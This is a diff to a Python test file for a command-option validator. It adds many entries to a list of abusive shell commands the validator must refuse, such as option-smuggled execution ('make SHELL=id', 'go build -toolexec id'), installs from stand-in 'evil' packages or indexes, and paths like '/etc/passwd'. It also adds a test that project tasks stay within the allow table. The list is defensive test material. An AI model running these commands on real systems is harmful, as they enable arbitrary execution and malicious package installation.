@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ast
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -14,7 +15,10 @@ from skills.author import Capabilities, Context, Effect, Reply, SkillFault, skil
 from skills.context import Completed
 from skills.families import project_tests, search
 from skills.options import TABLES, WRAPPERS, OptionRefused, Usage, check, declared
+from skills.project.tasks import find_tasks
+from skills.project.verbs import installing, task_for
 from skills.testing import FakeContext
+from tests.skills.project.projects import projects
 
 ABUSES = [
     "git -c alias.x=!id x",
@@ -101,7 +105,35 @@ ABUSES = [
     "go run x.go",
     "make SHELL=id test",
     "make -f evil test",
-    "make clean",
+    "make ../x",
+    "make /etc/passwd",
+    "make -C /etc docs",
+    "make CC=id docs",
+    "just --justfile evil docs",
+    "just --shell id docs",
+    "just docs x=id",
+    "npm run --script-shell=id docs",
+    "npm run -- docs",
+    "npm install evil",
+    "npm install --global x",
+    "python -m pip install evil",
+    "python -m pip install --index-url http://evil .",
+    "python -m poethepoet --executor id docs",
+    "python -m ruff check --config evil",
+    "ruff check --fix /etc",
+    "nox -f evil.py",
+    "tox -c evil.ini",
+    "cargo build --config x",
+    "cargo fetch --manifest-path /etc/x",
+    "cargo install evil",
+    "go build -toolexec id ./...",
+    "go vet -vettool=id ./...",
+    "go mod edit x",
+    "uv sync --index http://evil",
+    "uv run id",
+    "poetry run id",
+    "pnpm dlx evil",
+    "yarn add evil",
     "make --eval=x:;id test",
 ]
 
@@ -174,6 +206,21 @@ def test_test_runs_are_in_the_table(tmp_path: Path) -> None:
     assert {suite.tool for suite in suites} == {"pytest", "tox", "npm", "cargo", "go", "make"}
     for suite in suites:
         name, *arguments = suite.argv
+        check("python" if "/" in name else name, arguments, TABLES)
+
+
+def test_tasks_are_in_the_table(tmp_path: Path) -> None:
+    """Every tool's tasks, what a tool does by itself, and every way to install dependencies are allowed."""
+    found = []
+    for folder in projects(tmp_path):
+        found += [*find_tasks(folder), *filter(None, map(partial(task_for, folder), ("build", "lint", "format")))]
+        found += filter(None, [installing(folder)])
+    assert {task.tool for task in found} == {
+        *("make", "just", "npm", "poe", "nox", "tox", "cargo", "go", "ruff"),
+        *("uv", "poetry", "pnpm", "yarn", "pip"),
+    }
+    for task in found:
+        name, *arguments = task.argv
         check("python" if "/" in name else name, arguments, TABLES)
 
 
